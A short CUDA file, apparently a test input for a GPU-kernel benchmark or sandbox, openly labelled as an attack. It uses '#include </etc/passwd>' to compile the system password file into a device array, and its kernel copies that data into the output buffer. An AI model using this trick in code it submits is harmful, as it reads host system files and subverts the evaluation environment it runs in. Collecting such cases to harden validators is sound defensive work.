// Attack: the angle form with an absolute path, #include </etc/passwd>; some
// preprocessors treat <...> with a leading '/' as a plain path.
// clang-format off
__device__ int leak[] = {
#include </etc/passwd>
};
// @kb launch gather_linear grid(B) block(32)
extern "C" __global__ void gather_linear(const float* x, const float* w,
                                         const float* bias, float* out,
                                         int R, int B, int H, int K) { out[0] = leak[0]; }
